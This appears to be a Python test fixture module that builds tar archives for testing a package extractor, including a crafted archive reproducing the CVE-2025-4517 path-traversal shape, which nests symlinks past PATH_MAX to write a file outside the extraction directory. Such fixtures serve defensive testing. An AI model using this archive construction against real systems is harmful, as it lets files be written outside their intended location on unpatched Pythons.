"""Hand-made tar archives for the code-package tests: one entry at a time, and the crafted one that
escapes its extraction directory on Pythons without the CVE-2025-4517 fix."""

from __future__ import annotations

import io
import posixpath
import tarfile
from pathlib import Path


def member(name: str, data: bytes = b"", **fields: object) -> tuple[tarfile.TarInfo, bytes]:
    """A tar entry named ``name`` holding ``data``, with any TarInfo ``fields`` set (type, linkname)."""
    info = tarfile.TarInfo(name)
    info.size = len(data)
    for key, value in fields.items():
        setattr(info, key, value)
    return info, data


def tar_with(directory: Path, *members: tuple[tarfile.TarInfo, bytes]) -> Path:
    """``directory/evil.tar.gz`` holding ``members`` in this order."""
    path = directory / "evil.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data) if data else None)
    return path


def path_max_escape(directory: Path) -> Path:
    """CVE-2025-4517's shape: links and directories nested past PATH_MAX, where ``os.path.realpath`` stops
    resolving, so tarfile's ``data`` filter (on Pythons without the fix) and a lexical check both see a
    link inside the tree while it points to the extraction directory's parent; the file
    ``escape/PWNED-outside-dest.txt`` lands there. Every link target is relative and lexically inside."""
    long_dir, steps = "d" * 247, "abcdefghijklmnop"
    members, path = [], ""
    for step in steps:
        members.append(member(posixpath.join(path, long_dir), type=tarfile.DIRTYPE))
        members.append(member(posixpath.join(path, step), type=tarfile.SYMTYPE, linkname=long_dir))
        path = posixpath.join(path, long_dir)
    deep_link = posixpath.join(*steps, "l" * 254)  # through the short links: PATH_MAX is not reached here
    members.append(member(deep_link, type=tarfile.SYMTYPE, linkname=posixpath.join(*[".."] * len(steps))))
    members.append(member("escape", type=tarfile.SYMTYPE, linkname=posixpath.join(deep_link, "..")))
    members.append(member("escape/PWNED-outside-dest.txt", b"pwned"))
    return tar_with(directory, *members)
